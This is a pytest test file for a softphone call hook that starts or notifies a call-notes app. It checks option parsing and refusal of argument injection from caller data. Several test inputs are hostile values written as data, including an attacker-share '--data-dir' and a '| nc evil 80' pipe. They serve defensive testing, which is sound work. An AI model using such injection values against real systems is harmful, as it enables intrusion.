"""The hook in-process: options, what it forwards, and the app command it would start."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from callnotes import hook, instance
from callnotes.cli import build_parser
from callnotes.domain.call_events import CallEvent, EventKind, event_from_arguments
from callnotes.domain.call_links import MalformedEventError
from callnotes.domain.calls import CallDirection
from callnotes.launch import as_call_arguments


class FakeSpawn:
    def __init__(self) -> None:
        self.calls: list[tuple[list[str], dict[str, str]]] = []

    def __call__(self, command: list[str], env: dict[str, str]) -> None:
        self.calls.append((command, env))


def test_with_no_app_running_it_starts_one_with_the_event(tmp_path: Path, capsys) -> None:
    spawn = FakeSpawn()
    env = {
        "PATH": "/usr/bin",
        "TWINKLE_TRIGGER": "in_call_answered",
        "SIP_FROM_USER": "0301234567",
        "SIP_FROM": '"-rf Dana" <sip:0301234567@pbx>',
    }
    code = hook.main([f"--data-dir={tmp_path}"], env, spawn)
    assert code == 0
    assert capsys.readouterr().out == "", "Twinkle reads stdout"
    [(command, child_env)] = spawn.calls
    assert command[:3] == [sys.executable, "-m", "callnotes"]
    assert command[3] == f"--data-dir={tmp_path}"
    assert child_env == {"PATH": "/usr/bin"}, "the caller's details stay out of the app's env"
    # What the app reads from that command line is the event the hook read.
    args = build_parser().parse_args(as_call_arguments(command[3:]))
    assert (args.command, args.event, args.name, args.number) == (
        "call",
        "answered",
        "-rf Dana",
        "0301234567",
    )


def test_the_app_command_keeps_an_outbound_call_and_odd_names_as_values() -> None:
    event = CallEvent(
        EventKind.ENDED, number="+4930123", name="--db=x", direction=CallDirection.OUTBOUND
    )
    command = hook.app_command(event, None)
    args = build_parser().parse_args(command[3:])
    assert args.db is None and args.name == "--db=x" and args.outbound
    assert event_from_arguments(
        [args.number], event=args.event, name=args.name, outbound=args.outbound
    ) == CallEvent(
        EventKind.ENDED,
        number="+4930123",
        name="--db=x",
        direction=CallDirection.OUTBOUND,
    )


@pytest.mark.parametrize(
    ("argv", "targets", "values"),
    [
        (["0301234567"], ["0301234567"], {}),
        (["--event=answered", "0301234567"], ["0301234567"], {"--event": "answered"}),
        (
            ["--event", "ended", "--name", "Dana", "0301"],
            ["0301"],
            {"--event": "ended", "--name": "Dana"},
        ),
        (["--event=ended", "--"], [], {"--event": "ended"}),
        (["--event=ended", "--", "0301"], ["0301"], {"--event": "ended"}),
        (["--name", "--outbound", "0301"], ["0301"], {"--name": "--outbound"}),
        (["--data-dir=//share", "--", "--data-dir=x"], ["--data-dir=x"], {"--data-dir": "//share"}),
    ],
)
def test_options_first_then_the_number(argv, targets, values) -> None:
    options = hook.parse_options(argv)
    assert options.targets == targets
    assert options.values == values


def test_without_an_appended_number_every_argument_is_an_option() -> None:
    """Twinkle's form: the caller is in the environment and nothing is appended."""
    options = hook.parse_options(["--data-dir=/d", "--event=ended"], appended=False)
    assert (options.targets, options.values) == ([], {"--data-dir": "/d", "--event": "ended"})


# What a caller's SIP user part can make MicroSIP append after the options in its settings.
APPENDED = [
    "--data-dir=//attacker.example/share",
    "--data-dir",
    "--event=answered",
    "--name=Your bank",
    "--outbound",
    "--help",
    "--version",
    "-h",
    "-0301234567",
    " --data-dir=x",
]


# The options written in the softphone's settings, then what it appends; alone, --help and
# --version are a person asking at a terminal.
APPENDED_TO = [
    [*written, appended]
    for written in (["--event=ringing"], ["--event=ringing", "--"], ["--outbound", "--"], [])
    for appended in APPENDED
    if written or appended not in ("--help", "--version", "-h")
]


@pytest.mark.parametrize("argv", APPENDED_TO)
def test_what_the_softphone_appends_is_never_an_option(
    argv: list[str], tmp_path: Path, capsys
) -> None:
    own = tmp_path / "own"
    spawn = FakeSpawn()
    assert hook.main(argv, {"CALLNOTES_DATA_DIR": str(own)}, spawn) == 2
    assert spawn.calls == [], "nothing is started"
    captured = capsys.readouterr()
    assert captured.out == ""
    [line] = captured.err.splitlines()
    assert line.startswith("callnotes-event: ") and line.endswith("The event was ignored.")
    assert "attacker" not in line and "0301234567" not in line
    log = (own / "logs" / "callnotes.log").read_text()
    assert "refused an event" in log and "attacker" not in log and "0301234567" not in log
    assert list(tmp_path.iterdir()) == [own], "no other folder is touched"


def test_the_appended_data_dir_is_refused_even_after_the_users_own(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    spawn = FakeSpawn()
    argv = [f"--data-dir={mine}", "--event=ringing", "--", f"--data-dir={tmp_path / 'evil'}"]
    assert hook.main(argv, {}, spawn) == 2
    assert spawn.calls == []
    assert "refused an event" in (mine / "logs" / "callnotes.log").read_text()
    assert not (tmp_path / "evil").exists()


@pytest.mark.parametrize(
    "argv",
    [
        # A user part "--data-dir=… 0301234567" that MicroSIP's command line splits in two.
        ["--event=ringing", "--data-dir={evil}", "0301234567"],
        ["--data-dir={evil}", "0301234567"],
        # The user's own folder, written without "--": the hook cannot tell it is theirs.
        ["--data-dir={own}", "--event=ringing", "0301234567"],
    ],
)
def test_without_dashes_no_data_dir_is_taken(argv: list[str], tmp_path: Path, capsys) -> None:
    own, evil = tmp_path / "own", tmp_path / "evil"
    spawn = FakeSpawn()
    argv = [arg.format(own=own, evil=evil) for arg in argv]
    assert hook.main(argv, {"CALLNOTES_DATA_DIR": str(own)}, spawn) == 2
    assert spawn.calls == []
    assert "--data-dir must be followed by --" in capsys.readouterr().err
    assert "refused an event" in (own / "logs" / "callnotes.log").read_text()
    assert not evil.exists()


def test_with_dashes_the_users_data_dir_is_taken(tmp_path: Path) -> None:
    spawn = FakeSpawn()
    argv = [f"--data-dir={tmp_path}", "--event=ringing", "--", "0301234567"]
    assert hook.main(argv, {}, spawn) == 0
    [(command, _env)] = spawn.calls
    assert command[3] == f"--data-dir={tmp_path}"


@pytest.mark.parametrize(
    "argv",
    [
        ["--event=ringing", "--", "0301", "--data-dir=x"],  # a user part with a space in it
        ["--event=ringing", "0301", "0302"],
        ["0301", "--event=ended"],
    ],
)
def test_more_than_one_number_or_link_is_refused(argv: list[str]) -> None:
    with pytest.raises(MalformedEventError):
        hook.check_targets(hook.parse_options(argv))


@pytest.mark.parametrize(
    "argv",
    [["--event"], ["--event=ringing", "--event=ended", "1"], ["--format=c:", "1"], ["--name"]],
)
def test_bad_options_are_refused(argv, tmp_path: Path, capsys) -> None:
    env = {"CALLNOTES_DATA_DIR": str(tmp_path)}
    assert hook.main([f"--data-dir={tmp_path}", *argv], env, FakeSpawn()) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith("callnotes-event: ")


def test_a_refusal_is_logged_without_the_input(tmp_path: Path, capsys) -> None:
    argv = [f"--data-dir={tmp_path}", "--", "0301234567 | nc evil 80"]
    assert hook.main(argv, {}, FakeSpawn()) == 2
    log = (tmp_path / "logs" / "callnotes.log").read_text()
    assert "WARNING callnotes.hook: refused an event" in log
    assert "0301234567" not in log and "evil" not in log


def test_help_is_printed_only_when_asked(capsys) -> None:
    assert hook.main(["--help"], {}, FakeSpawn()) == 0
    assert capsys.readouterr().out.startswith("usage: callnotes-event")


def test_the_hook_loads_no_qt_and_no_database() -> None:
    probe = (
        "import sys, callnotes.hook; "
        "heavy = [m for m in ('PySide6', 'sqlalchemy', 'phonenumbers', 'jinja2', 'callnotes.app')"
        " if m in sys.modules]; print(heavy)"
    )
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True)
    assert result.stdout.strip() == "[]"


class StubPrimary:
    """A running app that holds the lock and listens but takes nothing: its queue is full."""

    def __init__(self, data_dir: Path) -> None:
        self.endpoint = instance.endpoint_for(data_dir / "run")
        (data_dir / "run").mkdir(parents=True, mode=0o700)
        lock_fd = instance._try_lock(self.endpoint.lock_path)
        assert lock_fd is not None
        self.lock_fd = lock_fd
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(self.endpoint.address)
        self.server.listen(0)
        self.queued: list[socket.socket] = []
        while True:  # fill the queue as a flood of hooks would
            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            client.setblocking(False)
            try:
                client.connect(self.endpoint.address)
            except BlockingIOError:
                client.close()
                break
            self.queued.append(client)

    def take_all(self) -> list[bytes]:
        """Accept and read every queued connection, the flood's and the hook's."""
        lines = []
        self.server.settimeout(0.2)
        for client in self.queued:
            client.close()
        self.queued.clear()
        while True:
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                return [line for line in lines if line]
            with conn:
                conn.settimeout(2)
                lines.append(conn.makefile("rb").readline())

    def close(self) -> None:
        for client in self.queued:
            client.close()
        self.server.close()
        os.close(self.lock_fd)


@pytest.fixture
def stub(tmp_path: Path) -> Iterator[StubPrimary]:
    primary = StubPrimary(tmp_path / "data")
    yield primary
    primary.close()


def test_a_full_queue_while_the_lock_is_held_never_starts_a_second_app(
    stub: StubPrimary, tmp_path: Path, monkeypatch, capsys
) -> None:
    monkeypatch.setattr(instance, "BUSY_WAIT_S", 0.5)
    spawn = FakeSpawn()
    argv = [f"--data-dir={tmp_path / 'data'}", "--event=ringing", "--", "0301234567"]
    started = time.monotonic()
    assert hook.main(argv, {}, spawn) == 1
    assert 0.5 <= time.monotonic() - started < 5
    assert spawn.calls == [], "the app is running: another one is never started"
    assert "busy" in capsys.readouterr().err
    log = (tmp_path / "data" / "logs" / "callnotes.log").read_text()
    assert "stayed busy" in log and "0301234567" not in log


def test_a_busy_app_gets_the_event_once_it_takes_its_queue(
    stub: StubPrimary, tmp_path: Path
) -> None:
    spawn = FakeSpawn()
    taken: list[bytes] = []
    drain = threading.Timer(0.4, lambda: taken.extend(stub.take_all()))
    drain.start()
    argv = [f"--data-dir={tmp_path / 'data'}", "--event=answered", "--", "0301234567"]
    assert hook.main(argv, {}, spawn) == 0
    drain.join()
    taken.extend(stub.take_all())
    assert spawn.calls == []
    [message] = [instance.decode(line) for line in taken]
    assert (message["kind"], message["number"]) == ("answered", "0301234567")


def test_the_hook_starting_the_app_holds_the_lock_meanwhile(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    (data_dir / "run").mkdir(parents=True, mode=0o700)
    lock_path = instance.endpoint_for(data_dir / "run").lock_path
    free_while_starting: list[bool] = []

    def spawn(command: list[str], env: dict[str, str]) -> None:
        fd = instance._try_lock(lock_path)
        free_while_starting.append(fd is not None)
        if fd is not None:
            os.close(fd)

    assert hook.main([f"--data-dir={data_dir}", "--", "0301234567"], {}, spawn) == 0
    assert free_while_starting == [False], "a hook at the same moment waits for this app"
    fd = instance._try_lock(lock_path)
    assert fd is not None, "and the app itself takes the lock once the hook has exited"
    os.close(fd)
